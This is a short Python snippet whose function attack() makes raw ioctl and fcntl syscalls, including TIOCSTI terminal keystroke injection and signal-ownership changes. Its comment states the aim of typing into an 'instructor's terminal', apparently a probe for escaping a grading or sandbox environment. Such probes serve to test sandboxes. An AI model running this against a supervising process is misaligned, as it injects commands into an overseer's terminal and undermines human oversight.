# Type into the instructor's terminal; send signals by way of a descriptor.
import ctypes
def attack():
    libc = ctypes.CDLL(None)
    calls = [(16, 0, 0x5412, b"x"), (16, 3, 0x5412, b"x"), (16, 0, 0x541C, b"x"), (16, 3, 0x8901, b"xxxx"), (72, 3, 8, 1), (72, 3, 10, 9), (72, 3, 1024, 0)]
    return any(libc.syscall(*call) >= 0 for call in calls)
